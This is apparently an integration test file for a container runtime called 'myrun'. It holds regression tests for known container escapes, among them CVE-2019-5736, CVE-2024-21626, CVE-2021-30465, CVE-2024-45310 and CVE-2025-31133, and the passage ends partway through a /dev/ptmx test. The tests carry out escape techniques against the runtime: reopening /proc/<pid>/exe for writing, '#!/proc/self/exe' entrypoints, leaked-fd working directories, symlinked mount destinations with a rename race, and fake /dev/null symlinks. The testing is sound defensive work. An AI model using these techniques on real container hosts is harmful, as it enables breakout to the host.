//go:build integration

package integration

// Regression tests for the known container-runtime escapes. Each test says
// which CVE it covers and how it would fail on a runtime without the defence.
// Shared helpers for escape, rootless and seccomp tests live at the end of
// this file (prefix esc).
//
// Hardening items and the tests that guard them (harden_test.go):
//
//	issue 21 item 0, CVE-2019-5736 seal made writable  TestEscapeCVE2019_5736RemountSeal
//	                 (mount_setattr, clones, remounts,  (this file)
//	                 map_files, fds, userns helper)
//	issue 21 item 3, uid/gid 4294967295 ran as root    TestHardenIDsOutOfRange
//	issue 21 item 5, LSM label write redirected        TestHardenLSMSetupsRefused
//	                 (the writer itself: pathrs TestWriteThreadSelfIgnoresFakeProc)
//	issue 21 item 6, /proc and the rootfs trusted      TestHardenProcAndRootfsTrust
//	issue 21 item 8, myimg plain HTTP, tls-verify on   imgtool TestRegistryPushPull,
//	                                                   imgtool/registry TestPlainHTTPNeedsConsent
//	issue 21, ambient caps of `runc spec`              TestHardenAmbientFromRuncSpec
//	issue 20, --no-pivot fresh unmasked procfs         TestHardenNoPivotProcfs
//	issue 20, symlinked /proc or /sys refused          TestHardenProcAndRootfsTrust/sys-symlink,
//	                                                   TestHardenLSMSetupsRefused/proc-symlink
//	issue 20, cgroup namespace listed twice            TestHardenCgroupNamespaceTwice
//	issue 21 item 1, created init: host handles, caps  TestCreatedInitHoldsNoHostHandles,
//	                 (inithard_test.go)                TestCreatedInitPtraceWalkFindsNoHost,
//	                                                   TestCreatedInitIsTheContainerUser
//	issue 21 item 2, caller's fds held by init         TestCreatedInitHoldsNoCallerFds
//	issue 20, $(myrun create ...) never returns        TestCapturedOutputReturns
//	issue 21 item 4, startContainer hooks' caps, fds   TestStartContainerHookRunsAsContainerProcess
//	issue 21 item 7, session keyring perms 0x3f3f0000  TestSessionKeyringPermissions

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	rspec "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// CVE-2019-5736: a process that can see the runtime's init (here the test
// itself, as root on the host) takes an O_PATH handle on /proc/<init>/exe
// while init runs the runtime binary, waits for init to exec the user's
// process, and reopens the handle for writing to overwrite the host binary.
// A runtime that execs its own unsealed binary fails here: the reopen
// succeeds on the host file (nothing executes it any more, so no ETXTBSY)
// and the same-byte write goes through. myrun's init runs the binary seen
// through a lower-only overlayfs (EROFS) or a sealed memfd (write fails
// with EPERM).
func TestEscapeCVE2019_5736ProcExeReopen(t *testing.T) {
	bin := escCopyMyrun(t)
	before := escSHA256(t, bin)
	hostBefore := escSHA256(t, myrun)
	b := newBundle(t, []string{"sleep", "30"}, nil)
	if _, errs, code := escRun(t, bin, nil, "--root", b.root, "create", "--bundle", b.dir, b.id); code != 0 {
		t.Fatalf("create: %s", errs)
	}
	pid := int(b.state()["pid"].(float64))
	opath, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatalf("O_PATH open of init's exe: %v", err)
	}
	defer unix.Close(opath)
	if _, errs, code := escRun(t, bin, nil, "--root", b.root, "start", b.id); code != 0 {
		t.Fatalf("start: %s", errs)
	}
	// Init must have exec'd the user's process before the attack counts.
	escWaitFor(t, 10*time.Second, "init to exec sleep", func() bool {
		l, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
		return strings.HasSuffix(l, "busybox")
	})
	if res := escTryWrite(opath, bin, 3*time.Second); res.wroteHost {
		t.Fatalf("CVE-2019-5736: runtime binary writable through /proc/<init>/exe: %s", res.desc)
	} else {
		t.Logf("reopen for write: %s", res.desc)
	}
	if escSHA256(t, bin) != before || escSHA256(t, myrun) != hostBefore {
		t.Fatalf("runtime binary changed")
	}
}

// CVE-2019-5736, the original exploit: the container's entrypoint is a
// script "#!/proc/self/exe", so starting it runs the runtime binary inside
// the container, and a process in the same pid namespace (container A, an
// attacker with CAP_SYS_PTRACE) grabs /proc/<pid>/exe of the runtime while
// container B is created and started, then reopens it for writing. On a
// runtime that runs its host binary the attacker's write lands in that
// binary (the attacker writes the byte it read, so nothing is damaged).
func TestEscapeCVE2019_5736ShebangSelfExe(t *testing.T) {
	bin := escCopyMyrun(t)
	before := escSHA256(t, bin)
	probe := escProbe(t)

	a := newBundle(t, []string{"/probe", "attack", "/ready", "/stop", "/report", "25"}, func(s *rspec.Spec) {
		s.Root.Readonly = false
		c := s.Process.Capabilities
		c.Bounding = append(c.Bounding, "CAP_SYS_PTRACE")
		c.Effective = append(c.Effective, "CAP_SYS_PTRACE")
		c.Permitted = append(c.Permitted, "CAP_SYS_PTRACE")
	})
	escInstall(t, probe, filepath.Join(a.dir, "rootfs/probe"))
	if _, errs, code := escRun(t, bin, nil, "--root", a.root, "run", "-d", "--bundle", a.dir, a.id); code != 0 {
		t.Fatalf("run attacker: %s", errs)
	}
	arootfs := filepath.Join(a.dir, "rootfs")
	escWaitFor(t, 10*time.Second, "attacker ready", func() bool { return escExists(filepath.Join(arootfs, "ready")) })
	apid := int(a.state()["pid"].(float64))

	bb := newBundle(t, []string{"/entry"}, func(s *rspec.Spec) {
		for i, ns := range s.Linux.Namespaces {
			if ns.Type == rspec.PIDNamespace {
				s.Linux.Namespaces[i].Path = fmt.Sprintf("/proc/%d/ns/pid", apid)
			}
		}
	})
	if err := os.WriteFile(filepath.Join(bb.dir, "rootfs/entry"), []byte("#!/proc/self/exe\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, errs, code := escRun(t, bin, nil, "--root", bb.root, "create", "--bundle", bb.dir, bb.id); code != 0 {
		t.Fatalf("create victim: %s", errs)
	}
	report := filepath.Join(arootfs, "report")
	escWaitFor(t, 10*time.Second, "attacker to catch the runtime", func() bool {
		raw, _ := os.ReadFile(report)
		return bytes.Contains(raw, []byte("caught "))
	})
	if _, errs, code := escRun(t, bin, nil, "--root", bb.root, "start", bb.id); code != 0 {
		t.Fatalf("start victim: %s", errs)
	}
	waitStatus(t, bb, "stopped")
	os.WriteFile(filepath.Join(arootfs, "stop"), nil, 0o644)
	escWaitFor(t, 30*time.Second, "attacker report", func() bool {
		raw, _ := os.ReadFile(report)
		return bytes.Contains(raw, []byte("done\n"))
	})
	raw, _ := os.ReadFile(report)
	t.Logf("attacker report:\n%s", raw)
	var st unix.Stat_t
	if err := unix.Stat(bin, &st); err != nil {
		t.Fatal(err)
	}
	hostIno := fmt.Sprintf("dev=%d ino=%d", st.Dev, st.Ino)
	for _, l := range strings.Split(string(raw), "\n") {
		if strings.HasPrefix(l, "wrote ") && strings.Contains(l, hostIno) {
			t.Errorf("CVE-2019-5736: container wrote to the host runtime binary: %s", l)
		}
		if strings.HasPrefix(l, "busy ") {
			t.Errorf("runtime binary still executing at the end (cannot judge): %s", l)
		}
	}
	if escSHA256(t, bin) != before {
		t.Fatalf("host runtime binary changed")
	}
}

// CVE-2019-5736 against the seal itself: the attacker does not reopen the
// runtime's exe as it is, but first tries to undo whatever makes it
// read-only. A container process polls /proc for the runtime's processes
// (an exec'd `myrun init` before it execs the user's process, and the
// runtime binary run again by a "#!/proc/self/exe" entrypoint), takes
// their exe, map_files and fds of the binary, and tries mount_setattr
// clearing MOUNT_ATTR_RDONLY, open_tree clones (cleared, reconfigured rw,
// attached and remounted without MS_RDONLY), from its own namespaces and
// from a helper that is root in a user+mount namespace of its own, then
// reopens every view for writing until the runs are over. A read-only bind
// mount falls to this (mount_setattr works on a detached mount while the
// host-side runtime holds it); a lower-only overlayfs or a sealed memfd
// does not. Two attackers: with CAP_SYS_ADMIN and CAP_SYS_PTRACE (map_files
// and non-dumpable processes are open to it) and with the default
// capabilities. Execs take both paths (constructor and Go init) and `run`
// of a container in the attacker's pid namespace takes the create path.
func TestEscapeCVE2019_5736RemountSeal(t *testing.T) {
	probe := escProbe(t)
	for _, tc := range []struct {
		name string
		caps []string
	}{
		{"cap_sys_admin", []string{"CAP_SYS_ADMIN", "CAP_SYS_PTRACE"}},
		{"default_caps", nil},
	} {
		t.Run(tc.name, func(t *testing.T) { escRemountSeal(t, probe, tc.caps) })
	}
}

func escRemountSeal(t *testing.T, probe string, caps []string) {
	bin := escCopyMyrun(t)
	before := escSHA256(t, bin)
	a := newBundle(t, []string{"/probe", "seal", "/ready", "/stop", "/report", "600"}, func(s *rspec.Spec) {
		s.Root.Readonly = false
		c := s.Process.Capabilities
		c.Bounding = append(c.Bounding, caps...)
		c.Effective = append(c.Effective, caps...)
		c.Permitted = append(c.Permitted, caps...)
	})
	arootfs := filepath.Join(a.dir, "rootfs")
	escInstall(t, probe, filepath.Join(arootfs, "probe"))
	entry := []byte("#!/proc/self/exe\n")
	if err := os.WriteFile(filepath.Join(arootfs, "entry"), entry, 0o755); err != nil {
		t.Fatal(err)
	}
	if _, errs, code := escRun(t, bin, nil, "--root", a.root, "run", "-d", "--bundle", a.dir, a.id); code != 0 {
		t.Fatalf("run attacker: %s", errs)
	}
	escWaitFor(t, 10*time.Second, "attacker ready", func() bool { return escExists(filepath.Join(arootfs, "ready")) })
	apid := int(a.state()["pid"].(float64))
	// ioPriority sends the exec through Go init.
	goInit := a.processFile("goinit.json", rspec.Process{Args: []string{"/entry"}, Cwd: "/", Env: []string{"PATH=/bin"},
		IOPriority: &rspec.LinuxIOPriority{Class: rspec.IOPRIO_CLASS_BE, Priority: 4}})
	v := newBundle(t, []string{"/entry"}, func(s *rspec.Spec) {
		for i, ns := range s.Linux.Namespaces {
			if ns.Type == rspec.PIDNamespace {
				s.Linux.Namespaces[i].Path = fmt.Sprintf("/proc/%d/ns/pid", apid)
			}
		}
	})
	if err := os.WriteFile(filepath.Join(v.dir, "rootfs/entry"), entry, 0o755); err != nil {
		t.Fatal(err)
	}

	report := filepath.Join(arootfs, "report")
	caught := func() int {
		raw, _ := os.ReadFile(report)
		return strings.Count("\n"+string(raw), "\ncaught ")
	}
	// The runs' own results do not matter (the shebang entrypoint fails);
	// a start refused with ETXTBSY means someone holds the binary open for
	// writing.
	busy := 0
	runIt := func(args ...string) {
		for i := 0; i < 100; i++ {
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			err := exec.CommandContext(ctx, bin, args...).Run()
			cancel()
			if !errors.Is(err, unix.ETXTBSY) {
				return
			}
			busy++
			time.Sleep(10 * time.Millisecond)
		}
	}
	// At least 30 rounds; more until the attacker has caught a few
	// runtime processes (each catch is attacked every way). Exec through
	// the constructor and through Go init, and run (create path).
	n := 0
	for ; n < 30 || (caught() < 6 && n < 300); n++ {
		switch {
		case n%12 == 3:
			runIt("--root", v.root, "run", "--bundle", v.dir, v.id)
			runIt("--root", v.root, "delete", "--force", v.id)
		case n%3 == 0:
			runIt("--root", a.root, "exec", a.id, "/entry")
		case n%3 == 1:
			runIt("--root", a.root, "exec", "-p", goInit, a.id)
		default:
			runIt("--root", a.root, "exec", a.id, "true")
		}
	}
	if busy > 0 {
		t.Errorf("CVE-2019-5736: the runtime binary was held open for writing (%d starts refused with ETXTBSY)", busy)
	}
	os.WriteFile(filepath.Join(arootfs, "stop"), nil, 0o644)
	escWaitFor(t, 60*time.Second, "attacker report", func() bool {
		raw, _ := os.ReadFile(report)
		return bytes.HasSuffix(raw, []byte("done\n"))
	})
	raw, _ := os.ReadFile(report)
	// The report is long (every step of every catch): log a summary.
	summary := map[string]int{}
	info := map[string]string{} // pid -> its exeinfo line
	for _, l := range strings.Split(string(raw), "\n") {
		if f := strings.Fields(l); len(f) > 1 && f[0] == "exeinfo" {
			info[f[1]] = l
		}
	}
	// The view of the binary reports the host file's device and inode
	// (an overlayfs over two filesystems, xino=off): a write to a file
	// with them is a write to the runtime binary.
	var st unix.Stat_t
	if err := unix.Stat(bin, &st); err != nil {
		t.Fatal(err)
	}
	hostIno := fmt.Sprintf(" dev=%d ino=%d ", st.Dev, st.Ino)
	for _, l := range strings.Split(string(raw), "\n") {
		if strings.HasPrefix(l, "wrote ") {
			pid, _, _ := strings.Cut(strings.Fields(l + " - -")[2], ":")
			if strings.Contains(l, hostIno) {
				t.Errorf("CVE-2019-5736: the container reopened the runtime binary for writing and wrote to it: %s (%s)", l, info[pid])
			} else {
				// A /proc/<pid>/exe path outlives the runtime's
				// exec of the container's program (the container's
				// own file, open to it anyway).
				t.Logf("not the runtime binary (host's is%s): %s (%s)", strings.TrimRight(hostIno, " "), l, info[pid])
			}
		}
		if l != "" {
			summary[escReportKey(l)]++
		}
	}
	keys := make([]string, 0, len(summary))
	for k := range summary {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var sb strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&sb, "%5d %s\n", summary[k], k)
	}
	t.Logf("%d runs, %d runtime processes caught; attacker report summary:\n%s", n, caught(), sb.String())
	if caught() == 0 {
		t.Fatalf("the attacker never caught a runtime process in %d runs: cannot judge", n)
	}
	if escSHA256(t, bin) != before {
		t.Fatalf("CVE-2019-5736: the host runtime binary changed")
	}
}

// escReportKey folds a line of the seal attacker's report into a summary
// key: the pid goes, the kind of handle (exe, map_files, fd) stays.
func escReportKey(l string) string {
	f := strings.Fields(l)
	switch {
	case len(f) >= 3 && f[0] == "exeinfo":
		f = []string{f[0], f[2], f[3]}
	case len(f) >= 3 && (f[0] == "caught" || f[0] == "opath-failed" || f[0] == "moved-on"):
		f = append(f[:1:1], f[2:]...)
	case len(f) >= 3 && strings.Contains(f[2], ":"):
		kind := strings.SplitN(f[2], ":", 3)[1]
		f = append(f[:2:2], append([]string{kind}, f[3:]...)...)
	}
	out := f[:0]
	for _, w := range f {
		if !strings.HasPrefix(w, "dev=") && !strings.HasPrefix(w, "ino=") {
			out = append(out, w)
		}
	}
	return strings.Join(out, " ")
}

// CVE-2024-21626: a runtime that leaks its own fds (or the caller's) into
// the container gives it handles on host files and directories. Only 0, 1,
// 2 and the --preserve-fds ones may be open in the container process, for
// run and for exec. The test hands myrun an extra fd without preserving it;
// a runtime that does not close fds before exec shows fd 3 (or its own
// internal fds: sync socket, exec fifo, sealed binary) in the listing.
func TestEscapeCVE2024_21626OnlyStdioFds(t *testing.T) {
	probe := escProbe(t)
	leak, err := os.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer leak.Close()
	check := func(what, out string, want []string) {
		t.Helper()
		var got []string
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			if f := strings.Fields(l); len(f) > 0 {
				got = append(got, f[0])
			}
		}
		if strings.Join(got, ",") != strings.Join(want, ",") {
			t.Errorf("%s: open fds %v, want %v:\n%s", what, got, want, out)
		}
	}

	b := newBundle(t, []string{"/probe", "fds"}, nil)
	escInstall(t, probe, filepath.Join(b.dir, "rootfs/probe"))
	out, errs, code := escRun(t, myrun, []*os.File{leak}, "--root", b.root, "run", "--bundle", b.dir, b.id)
	if code != 0 {
		t.Fatalf("run: %s", errs)
	}
	check("run", out, []string{"0", "1", "2"})
	b.myrun("delete", "--force", b.id)

	out, errs, code = escRun(t, myrun, []*os.File{leak}, "--root", b.root, "run", "--preserve-fds", "1", "--bundle", b.dir, b.id)
	if code != 0 {
		t.Fatalf("run --preserve-fds 1: %s", errs)
	}
	check("run --preserve-fds 1", out, []string{"0", "1", "2", "3"})
	b.myrun("delete", "--force", b.id)

	// exec into a running container, with and without a preserved fd.
	d := newBundle(t, []string{"sleep", "60"}, nil)
	escInstall(t, probe, filepath.Join(d.dir, "rootfs/probe"))
	if _, errs, code := d.myrun("run", "-d", "--bundle", d.dir, d.id); code != 0 {
		t.Fatalf("run -d: %s", errs)
	}
	out, errs, code = escRun(t, myrun, []*os.File{leak}, "--root", d.root, "exec", d.id, "/probe", "fds")
	if code != 0 {
		t.Fatalf("exec: %s", errs)
	}
	check("exec", out, []string{"0", "1", "2"})
	out, errs, code = escRun(t, myrun, []*os.File{leak}, "--root", d.root, "exec", "--preserve-fds", "1", d.id, "/probe", "fds")
	if code != 0 {
		t.Fatalf("exec --preserve-fds 1: %s", errs)
	}
	check("exec --preserve-fds 1", out, []string{"0", "1", "2", "3"})
}

// CVE-2024-21626, the cwd half: process.cwd "/proc/self/fd/<n>" names
// whatever the runtime's init has open as fd n when it chdirs (in runc 1.1.11
// a handle on the host's /sys/fs/cgroup), so the container starts with a
// working directory outside its root and walks ".." to the host's /. Every
// value must either be refused or leave the process inside its root; a
// leaky runtime shows "outside" from the probe (and pwd "(unreachable)").
func TestEscapeCVE2024_21626LeakedCwd(t *testing.T) {
	probe := escProbe(t)
	d := newBundle(t, []string{"sleep", "60"}, nil)
	escInstall(t, probe, filepath.Join(d.dir, "rootfs/probe"))
	if _, errs, code := d.myrun("run", "-d", "--bundle", d.dir, d.id); code != 0 {
		t.Fatalf("run -d: %s", errs)
	}
	judge := func(what, out, errs string, code int) {
		t.Helper()
		switch {
		case code != 0:
			if strings.Contains(out, "outside") {
				t.Errorf("%s: process ran outside its root: %s", what, out)
			}
			t.Logf("%s: refused (%d): %s", what, code, strings.TrimSpace(errs))
		case !strings.Contains(out, "\ninside"):
			t.Errorf("%s: CVE-2024-21626: cwd outside the container root:\n%s", what, out)
		}
	}
	for n := 3; n <= 12; n++ {
		cwd := fmt.Sprintf("/proc/self/fd/%d", n)
		b := newBundle(t, []string{"/probe", "cwd"}, func(s *rspec.Spec) { s.Process.Cwd = cwd })
		escInstall(t, probe, filepath.Join(b.dir, "rootfs/probe"))
		out, errs, code := b.run()
		judge("run cwd="+cwd, out, errs, code)
		b.myrun("delete", "--force", b.id)

		out, errs, code = d.myrun("exec", "--cwd", cwd, d.id, "/probe", "cwd")
		judge("exec --cwd "+cwd, out, errs, code)
	}
}

// CVE-2021-30465 / CVE-2024-45310: a mount destination that is (or passes
// through) a symlink pointing outside the rootfs must be resolved inside the
// rootfs. A runtime that follows the symlink on the host creates
// /tmp/myrun-escape-* on the host (mkdir of the target) and mounts there,
// so the mount is missing from the container's view.
func TestEscapeCVE2021_30465MountSymlink(t *testing.T) {
	tag := fmt.Sprintf("%d-%d", os.Getpid(), counter.Add(1))
	absT := "/tmp/myrun-escape-" + tag
	bindT := "/tmp/myrun-escape-bind-" + tag
	relT := "/tmp/myrun-escape-rel-" + tag
	existT := "/tmp/myrun-escape-exist-" + tag
	for _, p := range []string{absT, bindT, relT} {
		os.RemoveAll(p)
	}
	// A host directory that already exists: it must not be mounted over.
	if err := os.MkdirAll(existT, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(existT) })
	os.WriteFile(filepath.Join(existT, "host-marker"), []byte("host"), 0o644)
	src := t.TempDir()
	os.WriteFile(filepath.Join(src, "src-marker"), []byte("src"), 0o644)

	b := newBundle(t, []string{"sh", "-c", "cat /proc/self/mountinfo; echo ===; ls /evil/ /evilb/ /evile/ /rel/sub/"}, func(s *rspec.Spec) {
		s.Mounts = append(s.Mounts,
			rspec.Mount{Destination: "/evil", Type: "tmpfs", Source: "tmpfs"},
			rspec.Mount{Destination: "/evilb", Type: "bind", Source: src, Options: []string{"bind"}},
			rspec.Mount{Destination: "/evile", Type: "tmpfs", Source: "tmpfs"},
			rspec.Mount{Destination: "/rel/sub", Type: "tmpfs", Source: "tmpfs"},
		)
	})
	rootfs := filepath.Join(b.dir, "rootfs")
	os.Symlink(absT, filepath.Join(rootfs, "evil"))
	os.Symlink(bindT, filepath.Join(rootfs, "evilb"))
	os.Symlink(existT, filepath.Join(rootfs, "evile"))
	os.Symlink("../../../../../../.."+relT, filepath.Join(rootfs, "rel"))
	out, errs, code := b.run()
	for _, p := range []string{absT, bindT, relT} {
		if escExists(p) {
			t.Errorf("CVE-2021-30465: host path %s created through a rootfs symlink", p)
			os.RemoveAll(p)
		}
	}
	if ents, _ := os.ReadDir(existT); len(ents) != 1 {
		t.Errorf("host directory %s changed: %v", existT, ents)
	}
	if mi, _ := os.ReadFile("/proc/self/mountinfo"); bytes.Contains(mi, []byte("myrun-escape")) {
		t.Errorf("a myrun-escape path is mounted on the host")
	}
	if code != 0 {
		// Refusing is a valid defence as long as nothing escaped.
		t.Logf("run refused the config (%d): %s", code, errs)
		return
	}
	mounts, listing, _ := strings.Cut(out, "===")
	for _, want := range []struct{ mp, fstype string }{
		{absT, "tmpfs"}, {bindT, ""}, {existT, "tmpfs"}, {relT + "/sub", "tmpfs"},
	} {
		if !escHasMount(mounts, want.mp, want.fstype) {
			t.Errorf("mount for %s did not land inside the rootfs (want %s %s in the container's mountinfo)", want.mp, want.mp, want.fstype)
		}
	}
	if !strings.Contains(listing, "src-marker") || strings.Contains(listing, "host-marker") {
		t.Errorf("container listing:\n%s", listing)
	}
	if !escExists(filepath.Join(rootfs, absT)) {
		t.Errorf("mountpoint not created inside the rootfs at %s", filepath.Join(rootfs, absT))
	}
}

// CVE-2024-45310 (and the race half of CVE-2021-30465): a directory on
// the path of a mount destination is swapped with a symlink to a host
// directory while the runtime sets the mount up (here a host goroutine
// exchanges them in a bind-mounted volume as fast as it can). A runtime
// that resolves the path once and then mkdirs/mounts by path follows the
// swapped-in symlink on the host and creates "x" in the host directory.
// myrun must create nothing there in any run (failing a run is fine).
func TestEscapeCVE2024_45310MountRace(t *testing.T) {
	outside := fmt.Sprintf("/tmp/myrun-escape-race-%d-%d", os.Getpid(), counter.Add(1))
	if err := os.MkdirAll(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(outside) })
	vol := t.TempDir()
	os.Mkdir(filepath.Join(vol, "sub"), 0o755)
	os.Symlink(outside, filepath.Join(vol, "other"))
	stop := make(chan struct{})
	done := make(chan int)
	go func() {
		swaps := 0
		for {
			select {
			case <-stop:
				done <- swaps
				return
			default:
			}
			if unix.Renameat2(unix.AT_FDCWD, filepath.Join(vol, "sub"), unix.AT_FDCWD, filepath.Join(vol, "other"), unix.RENAME_EXCHANGE) == nil {
				swaps++
			}
		}
	}()
	b := newBundle(t, []string{"true"}, func(s *rspec.Spec) {
		s.Mounts = append(s.Mounts,
			rspec.Mount{Destination: "/vol", Type: "bind", Source: vol, Options: []string{"rbind"}},
			rspec.Mount{Destination: "/vol/sub/x", Type: "tmpfs", Source: "tmpfs"},
		)
	})
	ok, refused := 0, 0
	// The race is probabilistic: a by-path mkdir with a ~20us window lost
	// it in about 1 of 10 tries here, so 50 runs catch such a runtime.
	for i := 0; i < 50; i++ {
		_, _, code := b.run()
		if code == 0 {
			ok++
		} else {
			refused++
		}
		b.myrun("delete", "--force", b.id)
		if ents, _ := os.ReadDir(outside); len(ents) > 0 {
			close(stop)
			<-done
			t.Fatalf("CVE-2024-45310: run %d created %v in the host directory %s", i, ents, outside)
		}
	}
	close(stop)
	swaps := <-done
	t.Logf("%d runs ok, %d refused, %d swaps", ok, refused, swaps)
	if swaps == 0 {
		t.Fatalf("the race never ran")
	}
}

// CVE-2019-19921 family: a rootfs whose /proc is a symlink to a host path
// must get its proc mount inside the rootfs (the host path is not created),
// and the runtime's writes through /proc (sysctls, masking) go to the real
// procfs of the container, never to what the symlink names on the host.
func TestEscapeProcSymlink(t *testing.T) {
	tag := fmt.Sprintf("/tmp/myrun-fakeproc-%d-%d", os.Getpid(), counter.Add(1))
	os.RemoveAll(tag)
	b := newBundle(t, []string{"sh", "-c", "grep -c . /proc/self/status; cat /proc/sys/net/ipv4/ip_forward; grep ' proc ' /proc/self/mountinfo; stat -c '%n %F %t:%T' /proc/timer_list 2>&1; true"}, func(s *rspec.Spec) {
		s.Linux.Sysctl = map[string]string{"net.ipv4.ip_forward": "1"}
	})
	rootfs := filepath.Join(b.dir, "rootfs")
	os.Remove(filepath.Join(rootfs, "proc"))
	if err := os.Symlink(tag, filepath.Join(rootfs, "proc")); err != nil {
		t.Fatal(err)
	}
	out, errs, code := b.run()
	if escExists(tag) {
		os.RemoveAll(tag)
		t.Fatalf("host path %s created through the rootfs /proc symlink", tag)
	}
	if code != 0 {
		t.Logf("refused (%d): %s", code, errs)
		return
	}
	t.Logf("container:\n%s", out)
	lines := strings.Split(out, "\n")
	if len(lines) < 4 || lines[1] != "1" || !strings.Contains(lines[2], " "+tag+" ") || !strings.Contains(out, "/proc/timer_list character special file 1:3") {
		t.Fatalf("proc not mounted inside at %s, sysctl or masking wrong:\n%s", tag, out)
	}
}

// A rootfs with a fake /proc (a plain directory holding a fake sysctl file)
// and no proc mount: the runtime must not write the sysctl into the fake
// file (a runtime that opens <rootfs>/proc/sys/... by path writes "1" into
// it; with a symlinked /proc that write goes wherever the image wants).
// Refusing the config is fine; if the container runs, the value must have
// reached the container's real network namespace (checked from the host
// with nsenter), so the sysctl was not silently dropped either.
func TestEscapeFakeProcSysctl(t *testing.T) {
	b := newBundle(t, []string{"sleep", "60"}, func(s *rspec.Spec) {
		var ms []rspec.Mount
		for _, m := range s.Mounts {
			if m.Destination != "/proc" {
				ms = append(ms, m)
			}
		}
		s.Mounts = ms
		s.Linux.MaskedPaths = nil
		s.Linux.ReadonlyPaths = nil
		s.Linux.Sysctl = map[string]string{"net.ipv4.ip_forward": "1"}
	})
	fake := filepath.Join(b.dir, "rootfs/proc/sys/net/ipv4/ip_forward")
	os.MkdirAll(filepath.Dir(fake), 0o755)
	os.WriteFile(fake, []byte("fake\n"), 0o644)
	_, errs, code := b.myrun("run", "-d", "--bundle", b.dir, b.id)
	if raw, _ := os.ReadFile(fake); string(raw) != "fake\n" {
		t.Fatalf("runtime wrote the sysctl into a fake /proc file: %q", raw)
	}
	if code != 0 {
		t.Logf("refused (%d): %s", code, strings.TrimSpace(errs))
		return
	}
	pid := int(b.state()["pid"].(float64))
	out, err := exec.Command("nsenter", "-t", strconv.Itoa(pid), "-n", "cat", "/proc/sys/net/ipv4/ip_forward").CombinedOutput()
	if err != nil {
		t.Skipf("nsenter: %v %s", err, out)
	}
	if strings.TrimSpace(string(out)) != "1" {
		t.Fatalf("sysctl not applied in the container's netns: %q", out)
	}
}

// CVE-2025-31133: the runtime masks paths by bind-mounting /dev/null over
// them. If the image's /dev/null is a symlink to a procfs file or a plain
// file, a runtime that trusts it bind-mounts the symlink's target (in the
// real exploit /proc/sys/kernel/core_pattern, host-wide and writable) or a
// file the image controls over the masked paths. With no /dev tmpfs in the
// config the image's /dev is what the runtime sees. Masked paths must be
// the real character device 1:3, or the config refused.
//
// The symlink points at /proc/sys/kernel/domainname, which is per UTS
// namespace: the test must not damage the host when run against a
// vulnerable runtime (runc 1.1.5 fails it, and with core_pattern as the
// target it overwrote the host's core_pattern with the container's output).
func TestEscapeFakeDevNull(t *testing.T) {
	probe := escProbe(t)
	for _, kind := range []string{"symlink", "dangling", "file", "symlink-userns", "file-userns"} {
		t.Run(kind, func(t *testing.T) {
			b := newBundle(t, []string{"/probe", "stat", "/proc/keys", "/proc/timer_list", "/dev/null"}, func(s *rspec.Spec) {
				var ms []rspec.Mount
				for _, m := range s.Mounts {
					if m.Destination != "/dev" && !strings.HasPrefix(m.Destination, "/dev/") {
						ms = append(ms, m)
					}
				}
				s.Mounts = ms
				if strings.HasSuffix(kind, "-userns") {
					// In a user namespace devices are bind-mounted, a
					// different code path from mknod.
					escUserns(s, 100000, 65536)
				}
			})
			os.Chmod(b.dir, 0o755)
			os.Chmod(filepath.Dir(b.dir), 0o755)
			rootfs := filepath.Join(b.dir, "rootfs")
			escInstall(t, probe, filepath.Join(rootfs, "probe"))
			null := filepath.Join(rootfs, "dev/null")
			dangling := fmt.Sprintf("/tmp/myrun-escape-null-%d", os.Getpid())
			if kind == "dangling" {
				os.Symlink(dangling, null)
			} else if strings.HasPrefix(kind, "symlink") {
				os.Symlink("/proc/sys/kernel/domainname", null)
			} else {
				os.WriteFile(null, []byte("image-controlled\n"), 0o666)
			}
			if strings.HasSuffix(kind, "-userns") {
				escChownTree(t, rootfs, 100000, 100000)
			}
			const domain = "/proc/sys/kernel/domainname"
			hostDomain, _ := os.ReadFile(domain)
			out, errs, code := b.run()
			if now, _ := os.ReadFile(domain); !bytes.Equal(now, hostDomain) {
				os.WriteFile(domain, hostDomain, 0o644)
				t.Fatalf("host domainname changed through the image's /dev/null: %q -> %q", hostDomain, now)
			}
			if escExists(dangling) {
				os.Remove(dangling)
				t.Fatalf("host path %s created through the image's /dev/null symlink", dangling)
			}
			t.Logf("container:\n%s", out)
			if code != 0 {
				t.Logf("refused (%d): %s", code, errs)
				return
			}
			for _, p := range []string{"/proc/keys", "/proc/timer_list"} {
				if !strings.Contains(out, p+" char 1:3\n") {
					t.Errorf("masked path %s is not the real /dev/null:\n%s", p, out)
				}
			}
		})
	}
}

// CVE-2025-31133 family, /dev/ptmx: an image /dev/ptmx symlink to a host
// file must not make the runtime modify (chmod, chown, write) that file,
// and the container's /dev/ptmx must lead to its own devpts.
func TestEscapeFakeDevPtmx(t *testing.T) {
	victim := filepath.Join(t.TempDir(), "victim")
	os.WriteFile(victim, []byte("victim\n"), 0o600)
	var before unix.Stat_t
	unix.Stat(victim, &before)
	b := newBundle(t, []string{"sh", "-c", "readlink -f /dev/ptmx; stat -L -c '%F' /dev/ptmx"}, func(s *rspec.Spec) {
		var ms []rspec.Mount
		for _, m := range s.Mounts {
			if m.Destination != "/dev" {
				ms = append(ms, m)
			}
		}
		s.Mounts = ms
	})
	os.Symlink(victim, filepath.Join(b.dir, "rootfs/dev/ptmx"))
	out, errs, code := b.run()
	var after unix.Stat_t
	unix.Stat(victim, &after)
	raw, _ := os.ReadFile(victim)
	if string(raw) != "victim\n" || after.Mode != before.Mode || after.Uid != before.Uid || after.Gid != before.Gid {
		t.Fatalf("host file behind the image's /dev/ptmx changed: %q mode %o->%o", raw, before.Mode, after.Mode)
	}
	if code != 0 {
		t.Logf("refused (%d): %s", code, errs)
		return
	}
